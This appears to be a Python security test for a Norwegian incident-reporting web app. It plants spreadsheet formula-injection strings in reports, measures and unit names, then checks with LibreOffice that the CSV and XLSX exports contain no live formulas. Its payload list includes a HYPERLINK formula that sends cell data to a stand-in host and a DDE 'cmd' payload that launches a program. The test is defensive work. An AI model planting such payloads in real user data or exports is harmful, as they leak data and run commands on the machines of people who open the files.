"""Fault 13: what people write, in every file for spreadsheets, opened by LibreOffice."""

from __future__ import annotations

import re
import subprocess
import time
from pathlib import Path

from faults import reports
from faults.house import House
from faults.ledger import Ledger, Outcome

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://ond.example/?"&A1;"Klikk")',
    "+47 73 59 50 00; =2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\uff1d1+1",
    "%0A=1+1",
    "Vanlig tekst",
)
FILES = {
    "hse_department": (
        "/committee/reports.csv",
        "/figures/incidents.by_unit/rows.csv",
        "/figures/incidents.by_unit/rows.xlsx",
        "/figures/incidents.by_category/rows.csv",
    ),
    "leader": ("/plan/INST/plan.csv",),
}
_FORMULA = re.compile(r'table:formula="([^"]*)"')
_CELL = re.compile(r"<table:table-cell\b")


def opened_by_libreoffice(house: House, *, protected: bool = True) -> Outcome:
    """No cell of a person's text is a formula, in any file of any kind."""
    folder = house.home / f"exports-{time.monotonic_ns()}"
    folder.mkdir()
    with house.serving(without="" if protected else "harmless cells"):
        _write_payloads(house)
        house.as_administrator("UPDATE org_unit SET name_nb = '=1+1 ' || name_nb")
        for who, paths in FILES.items():
            reader = house.visitor(who)
            for path in paths:
                answer = reader.get(path)
                if answer.status != 200:
                    raise RuntimeError(f"{path}: {answer.status}")
                stem, _dot, kind = path.strip("/").replace("/", "-").rpartition(".")
                (folder / f"{stem}-{kind}.{kind}").write_bytes(answer.body)  # two of one stem
        house.as_administrator("UPDATE org_unit SET name_nb = substr(name_nb, 6)")
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "fods", "--outdir", folder, *folder.iterdir()],
        check=True,
        capture_output=True,
        env={"HOME": str(house.home), "PATH": "/usr/bin:/bin"},
    )
    cells = formulas = 0
    sheets = list(folder.glob("*.fods"))
    for each in sheets:
        text = each.read_text()
        cells += len(_CELL.findall(text))
        formulas += len(_FORMULA.findall(text))
    missing = sum(map(len, FILES.values())) - len(sheets)
    return Outcome(cells, formulas + missing, 0, None, f"{len(sheets)} files")


def _write_payloads(house: House) -> None:
    """Reports, measures and names that begin as formulas do."""
    sender = house.visitor(reports.SENDER)
    handler = house.visitor("leader")
    ledger = Ledger(Path(house.home) / f"payloads-{time.monotonic_ns()}.jsonl")
    unit = reports.unit_of(house)
    leader = str(house.one("SELECT id FROM org_person WHERE email = 'leader@vern.example'"))
    for text in PAYLOADS:
        form = reports.write(sender, unit)
        form.fields["description"] = f"{text} {form.fields['description']}"
        pk = reports.send_until_received(sender, form, ledger)
        page = handler.get(f"/incidents/{pk}/measure/")
        given = {
            **page.hidden,
            "title": f"{text} tiltak",
            "responsible": leader,
            "due_on": "2030-01-15",
            "type": "corrective",
            "timing": "day",
            "priority": "2",
        }
        answer = handler.post(f"/incidents/{pk}/measure/", given)
        if answer.status != 302:
            raise RuntimeError(f"a measure was refused: {answer.status}")
